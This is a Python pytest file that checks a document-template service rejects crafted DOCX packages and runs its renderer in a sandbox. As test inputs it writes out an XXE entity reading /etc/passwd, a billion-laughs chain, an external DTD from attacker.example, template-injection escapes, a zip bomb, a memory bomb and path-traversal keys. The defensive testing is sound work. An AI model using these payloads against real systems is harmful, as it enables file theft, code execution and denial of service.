"""Template checks, the sandboxed renderer and the storage, with no database
and no Flask: each check is fed a crafted package and must say what is wrong."""

from __future__ import annotations

import io
import os
import stat
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from omd_gov.documents.rendering import Limits, RenderError, describe, render_docx, run_contained
from omd_gov.documents.storage import DirectoryStorage, StorageError, sha256_hex
from omd_gov.documents.validation import (
    PackageLimits,
    TemplateRejected,
    analyse,
    check_package,
    check_template,
)
from tests.documents_support import docx_bytes, docx_text, rewrite_part

PACKAGE = PackageLimits(max_bytes=1_000_000, max_unzipped_bytes=5_000_000, max_entries=100)
LIMITS = Limits(timeout=5, memory_mb=512)
KNOWN = {"agreement", "parties"}
SAMPLE = {"agreement": {"title": "T & <b>", "reference": "R-1"}, "parties": [{"name": "P"}]}


def _codes(error: TemplateRejected) -> list[str]:
    return [item["code"] for item in error.errors]


def _with_entry(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def test_a_valid_template_passes_and_reports_its_variables() -> None:
    data = docx_bytes("{{ agreement.title }}", "{% for p in parties %}{{ p.name }}{% endfor %}")
    assert check_template(data, PACKAGE, LIMITS, KNOWN, SAMPLE) == ["agreement", "parties"]


@pytest.mark.parametrize(
    "data, code, words",
    [
        (b"plain text, not a zip", "not_docx", "not a ZIP package"),
        (b"PK\x03\x04 truncated", "not_docx", "not a ZIP package"),
        (b"x" * 1_000_001, "too_large", "at most 1000000 bytes"),
    ],
)
def test_package_refusals(data: bytes, code: str, words: str) -> None:
    with pytest.raises(TemplateRejected) as caught:
        check_package(data, PACKAGE)
    assert _codes(caught.value) == [code] and words in caught.value.detail


def test_a_zip_bomb_is_refused_from_its_directory_alone() -> None:
    bomb = _with_entry(docx_bytes("x"), "word/media/zeros.bin", b"\0" * 8_000_000)
    assert len(bomb) < 100_000  # small on the wire...
    with pytest.raises(TemplateRejected) as caught:
        check_package(bomb, PACKAGE)
    assert _codes(caught.value) == ["zip_bomb"] and "would unpack to" in caught.value.detail


def test_too_many_entries_is_a_zip_bomb_too() -> None:
    out = io.BytesIO(docx_bytes("x"))
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(120):
            archive.writestr(f"word/media/{number}.bin", b"")
    with pytest.raises(TemplateRejected) as caught:
        check_package(out.getvalue(), PACKAGE)
    assert _codes(caught.value) == ["zip_bomb"] and "entries" in caught.value.detail


def test_a_zip_without_word_parts_is_not_a_docx() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(TemplateRejected) as caught:
        check_package(out.getvalue(), PACKAGE)
    assert "word/document.xml" in caught.value.detail


def _doctype(declaration: str, use: str = "") -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        text = xml.decode().replace("?>", f"?>{declaration}", 1)
        return (text.replace("Hello", use) if use else text).encode()

    return change


@pytest.mark.parametrize(
    "part, declaration, use",
    [
        ("word/document.xml",
         '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ("word/document.xml",
         '<!DOCTYPE d [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>', "&b;"),
        ("word/_rels/document.xml.rels",
         '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">', ""),
    ],
)  # fmt: skip
def test_xxe_and_entity_expansion_are_refused(part: str, declaration: str, use: str) -> None:
    data = rewrite_part(docx_bytes("Hello"), part, _doctype(declaration, use))
    report = analyse(data)
    assert [p["code"] for p in report["problems"]] == ["xxe"]
    assert report["problems"][0]["part"] == part
    assert "root:" not in str(report)  # nothing was resolved


def test_syntax_errors_name_the_part_and_paragraph() -> None:
    report = analyse(docx_bytes("intro", "second", "Dear {{ agreement.title }", "after"))
    [problem] = report["problems"]
    assert problem["code"] == "syntax_error" and problem["paragraph"] == 3
    assert "the document body, paragraph 3" in problem["message"]
    assert "Dear {{ agreement.title }" in problem["message"]

    in_header = analyse(docx_bytes("fine", header="{% if agreement %}never closed"))
    assert in_header["problems"][0]["part"].startswith("header /word/header")
    assert "endif" in in_header["problems"][0]["message"]


def test_unknown_variables_are_each_listed() -> None:
    data = docx_bytes("{{ agreement.title }} {{ secret_key }}", "{% for x in config %}{% endfor %}")
    with pytest.raises(TemplateRejected) as caught:
        check_template(data, PACKAGE, LIMITS, KNOWN, SAMPLE)
    assert {e["variable"] for e in caught.value.errors} == {"config", "secret_key"}
    assert "config, secret_key" in caught.value.detail


def test_the_sample_render_catches_what_static_checks_cannot() -> None:
    data = docx_bytes("{{ agreement.no_such_field }}")
    with pytest.raises(TemplateRejected) as caught:
        check_template(data, PACKAGE, LIMITS, KNOWN, SAMPLE)
    assert _codes(caught.value) == ["render_undefined"]
    assert "no_such_field" in caught.value.detail


def test_rendering_is_sandboxed_and_escapes_nothing_twice() -> None:
    out = render_docx(
        docx_bytes("{{ agreement.title }} & {{ agreement.reference }}"), SAMPLE, LIMITS
    )
    assert "T & <b> & R-1" in docx_text(out)
    for hostile in ("{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}",
                    "{{ agreement.__class__.__subclasses__() }}"):  # fmt: skip
        with pytest.raises(RenderError) as caught:
            render_docx(docx_bytes(hostile), SAMPLE, LIMITS)
        assert caught.value.code == "security"
        assert (
            "object at 0x" not in caught.value.message and "Traceback" not in caught.value.message
        )


def test_a_memory_bomb_is_stopped() -> None:
    with pytest.raises(RenderError) as caught:
        render_docx(docx_bytes("{{ 'x' * 3000000000 }}"), SAMPLE, Limits(timeout=10, memory_mb=256))
    assert caught.value.code in ("memory", "crashed")


def test_failures_never_carry_internal_details() -> None:
    code, message = describe(OSError("/etc/omd/secret.conf: permission denied"))
    assert (code, message) == ("error", "rendering failed (OSError)")


def test_storage_is_content_addressed_and_read_only(tmp_path: Path) -> None:
    storage = DirectoryStorage(tmp_path)
    key = storage.put(b"contract", ".docx")
    assert key == sha256_hex(b"contract") + ".docx"
    assert storage.put(b"contract", ".docx") == key  # idempotent
    assert storage.get(key) == b"contract"
    path = tmp_path / key[:2] / key
    assert not os.stat(path).st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH)
    assert not [p for p in tmp_path.rglob(".tmp-*")]
    for bad in ("../../etc/passwd", "a" * 64 + "/../x", "zz"):
        with pytest.raises(StorageError):
            storage.get(bad)
    with pytest.raises(StorageError):
        storage.get("0" * 64 + ".docx")


def test_render_processes_are_reused_and_replaced_after_a_timeout() -> None:
    quick = Limits(timeout=0.5, memory_mb=512)
    first = run_contained(os.getpid, (), quick)
    assert first != os.getpid()  # not in this process
    assert run_contained(os.getpid, (), quick) == first  # warm process reused
    with pytest.raises(RenderError) as caught:
        run_contained(time.sleep, (30,), quick)
    assert caught.value.code == "timeout"
    replacement = run_contained(os.getpid, (), quick)
    assert replacement != first
    with pytest.raises(ProcessLookupError):
        os.kill(first, 0)  # the stuck process is gone, not left running
